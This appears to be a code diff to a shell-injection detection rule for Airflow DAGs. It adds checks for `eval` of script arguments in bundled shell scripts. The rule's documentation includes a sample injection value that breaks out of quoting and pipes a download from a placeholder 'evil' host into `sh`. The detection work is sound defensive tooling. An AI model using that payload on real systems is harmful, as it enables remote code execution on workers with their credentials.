@@ -115,12 +115,15 @@ export default defineRule({
     category: 'shell-injection',
     severity: 'high',
     message: '{label} renders `{{ {expr} }}` into a shell command: {why}',
-    messages: { argv: '{label} renders `{{ {expr} }}` into the container\'s command line, which is split at spaces into arguments, so the value can add options and arguments: {why}' },
+    messages: {
+      argv: '{label} renders `{{ {expr} }}` into the container\'s command line, which is split at spaces into arguments, so the value can add options and arguments: {why}',
+      eval: 'the shell script `{name}` runs `eval` on `{var}`, which holds {what}: the shell parses it again, so `;`, `$(…)` and backquotes in it run as commands',
+    },
     aliases: [],
     docs: {
       what:
         'Finds Jinja expressions that interpolate values controlled by others into a command that a shell interprets: `BashOperator`/`BashSensor` `bash_command` (all import paths, Airflow 1–3), `SSHOperator` and `WinRMOperator` `command`, the return value of `@task.bash` functions, `DockerOperator` `command` when run by `sh -c` (in the command or the entrypoint) — a string `command` without a shell is split at spaces into the container\'s arguments, where `dag_run.conf` values can still add options: *medium* — and the script after `-c` of a `KubernetesPodOperator` whose `cmds`/`arguments` start with a shell (or the inline code of `python -c`, `perl -e`, `node -e`); and `.sh` files shipped with the DAGs, the templates of `bash_command="x.sh "` (there `dag_run.conf` *high*, `params` *low*: whether the DAG declares the param validated is not visible from the template).\n\n' +
-        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *info*: shown, below the default `--fail-on` (editable in the UI, but Airflow\'s security model trusts whoever may edit Variables and Connections; a templated Variable in a command is the recommended pattern, not a finding to fix). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported at the line of the script that evaluates it again (on the `env` value when the script is not written in the file; also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts).',
+        'Sources: `dag_run.conf…`, `triggering_asset_events`/`triggering_dataset_events` (asset events can be created through the REST API) — *high*; `params…` — *medium* (the DAG author sets them, but `dag_run.conf` overrides any param, even task-level ones, while `[core] dag_run_conf_overrides_params` keeps its default `True`); `ti.xcom_pull(…)` and `inlet_events[…]` extras (written by the producing task, like an XCom) — *medium*; `var.value…`/`var.json…`/`conn…` — *info*: shown, below the default `--fail-on` (editable in the UI, but Airflow\'s security model trusts whoever may edit Variables and Connections; a templated Variable in a command is the recommended pattern, not a finding to fix). Not reported: Airflow\'s own macros (`ds`, `ts`, `run_id`, `data_interval_start`, `macros.ds_add(ds, 1)`…); params declared as `Param(…, enum=[…])` or with a numeric/boolean `type` on the DAG or operator (Airflow validates them); values made numeric or quoted by a filter (`| int`, `| float`, or a user-defined filter with `quote` in its name such as `shell_quote` registered as `shlex.quote`); values passed through `env=` and referenced as `"$VAR"` — unless the script evaluates the variable again (`eval "$VAR"`, `sh -c "$VAR"`, `$($VAR)`, `$VAR` in command position), which is reported at the line of the script that evaluates it again (on the `env` value when the script is not written in the file; also KubernetesPodOperator `env_vars` and DockerOperator `environment` dicts). In `.sh` scripts shipped with the DAGs, also `eval` of a script argument or a variable bound to one (`NAME_GLOB="${3:-*.csv}"` … `eval "find … -name $NAME_GLOB"`: *medium*): the `bash_command` that calls the script passes it, often from the trigger.',
       why:
         'Airflow renders the template and hands the result to `bash -c`. A `dag_run.conf` value such as `x"; curl https://evil/x | sh; echo "` breaks out of any quoting and runs on the worker with its credentials. Anyone with permission to trigger the DAG (UI, REST API, a `TriggerDagRunOperator` fed by data) controls `conf` and, by default, `params`.',
       example:
@@ -134,9 +137,36 @@ export default defineRule({
   onDataFile(ctx) {
     if (ctx.file.dataKind !== 'shell') return;
     const name = ctx.file.path.split('/').pop()!;
+    // `eval` of a script argument (`NAME_GLOB="${3:-*.csv}"` … `eval "find … -name $NAME_GLOB"`): the caller's
+    // `bash_command` passes it, often from the trigger
+    for (const e of evalOfArguments(ctx.file.text)) {
+      ctx.reportRange(e.start, e.end, { name, var: e.var, what: e.what }, { message: 'eval', severity: 'medium' });
+    }
     for (const t of triggerInputInTemplate(ctx.file.text)) {
       // a param: whether the DAG declares it validated is not visible from the template: low
       ctx.reportRange(t.start, t.end, { label: `the shell script \`${name}\` (a \`bash_command\` template)`, expr: t.expr, why: t.why }, { key: `${name} ${t.full}`, ...(t.viaParams ? { severity: 'low' as const } : {}) });
     }
   },
 });
+
+/** Variables of a shell script bound to its arguments: `NAME="${3:-default}"`, `NAME=$1`, `read -r NAME <<< "$2"`. */
+const ARG_ASSIGN = /^[ \t]*(?:local[ \t]+|readonly[ \t]+|declare[ \t]+(?:-\w+[ \t]+)?)?([A-Za-z_]\w*)=["']?\$\{?([1-9@*])(?::?[-=][^}]*)?\}?/gm;
+const EVAL = /^[^#\n]*?\beval\b([^\n]*)/gm;
+
+/** `eval` lines of a shell script that expand a script argument or a variable bound to one. */
+function evalOfArguments(text: string): { start: number; end: number; var: string; what: string }[] {
+  if (!/\beval\b/.test(text)) return [];
+  const args = new Map<string, string>();
+  for (const m of text.matchAll(ARG_ASSIGN)) args.set(m[1], m[2]);
+  const out: { start: number; end: number; var: string; what: string }[] = [];
+  for (const m of text.matchAll(EVAL)) {
+    for (const v of m[1].matchAll(/\$\{?([A-Za-z_]\w*|[1-9@*])\b/g)) {
+      const pos = /^[1-9@*]$/.test(v[1]) ? v[1] : args.get(v[1]);
+      if (!pos) continue;
+      out.push({ start: m.index!, end: m.index! + m[0].length, var: `$${v[1]}`, what: `the script's argument ${pos === '@' || pos === '*' ? 'list' : `$${pos}`}` });
+      break;
+    }
+    if (out.length >= 20) break;
+  }
+  return out;
+}
